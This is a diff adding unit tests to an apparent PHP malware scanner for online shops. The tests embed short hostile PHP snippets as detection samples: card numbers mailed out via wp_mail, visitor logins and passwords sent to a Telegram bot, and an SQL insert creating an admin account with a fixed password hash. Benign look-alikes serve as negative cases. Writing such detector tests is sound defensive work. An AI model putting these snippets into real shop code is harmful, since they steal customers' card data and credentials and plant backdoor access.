@@ -191,6 +191,24 @@ void ForcedLogin(const std::vector<Token>& t, const PhpTaint& taint, std::vector
   AnalyzeForcedLogin(t, taint, "php", out);
 }
 
+TEST(PhpFacts, CardsAndLoginsRelayedByWpMailOrToAChatBot) {
+  EXPECT_TRUE(Has(Traits(CardMailer,
+                         "<?php $b = 'card ' . $_POST['payment']['cc_number'];"
+                         " wp_mail('x@example.net', 'n', $b);"),
+                  "php.card_data_mailer"));
+  EXPECT_TRUE(Has(Traits(CardMailer,
+                         "<?php $m = $_POST['login'] . ':' . $_POST['password'];"
+                         " file_get_contents('https://api.telegram.org/bot1:A/sendMessage?text=' ."
+                         " urlencode($m));"),
+                  "php.request_to_chat_bot"));
+  // An order notice the shop sends its own Telegram chat carries no visitor input.
+  EXPECT_FALSE(Has(Traits(CardMailer,
+                          "<?php $m = 'Order ' . $order->getIncrementId();"
+                          " file_get_contents('https://api.telegram.org/bot1:A/sendMessage?text=' ."
+                          " urlencode($m));"),
+                   "php.request_to_chat_bot"));
+}
+
 TEST(PhpFacts, FixedAccountLoginOnARequestIsABackdoor) {
   EXPECT_TRUE(Has(Traits(ForcedLogin,
                          "<?php add_action('init', function () { if (isset($_GET['go'])) {\n"
@@ -234,6 +252,15 @@ TEST(PhpFacts, AdministratorsWithAFixedPasswordAndPaymentTableDumps) {
                          "->getConnection(); echo json_encode($c->fetchAll("
                          "'SELECT * FROM sales_order_payment'));"),
                   "php.store_data_dump"));
+  EXPECT_TRUE(Has(Traits(AccountAndData,
+                         "<?php $db->query(\"INSERT INTO admin_user (username, password) VALUES"
+                         " ('sysadmin', 'e10adc3949ba59abbe56e057f20f883e')\");"),
+                  "php.sql_admin_account"));
+  // Reading the table, or a migration naming it further on, is not making an account.
+  EXPECT_FALSE(Has(Traits(AccountAndData,
+                          "<?php $n = $db->fetchOne('SELECT count(*) FROM admin_user');"
+                          " $db->query(\"INSERT INTO audit_log (note) VALUES ('admin_user')\");"),
+                   "php.sql_admin_account"));
   // A report of the store's own orders inside the application is not a page of its own.
   EXPECT_FALSE(Has(Traits(AccountAndData,
                           "<?php $rows = $c->fetchAll('SELECT method FROM sales_order_payment');"
